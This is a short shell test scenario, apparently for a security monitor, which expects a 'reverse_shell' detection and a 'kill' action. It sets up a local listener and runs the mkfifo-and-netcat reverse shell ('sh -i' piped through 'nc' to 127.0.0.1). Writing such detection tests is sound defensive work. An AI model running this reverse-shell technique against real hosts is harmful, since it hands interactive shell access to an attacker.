# expect: reverse_shell
# action: kill
# about: the mkfifo reverse shell through netcat (no -e, no dup of a socket by the shell)
exec 3< <("$PY" "$SCENARIO_LIB/listener.py")
read -r port <&3
f=$(mktemp -u "$PWD/f.XXXXXX")
mkfifo "$f"
sh -i < "$f" 2>&1 | nc -q1 127.0.0.1 "$port" > "$f"
rm -f "$f"
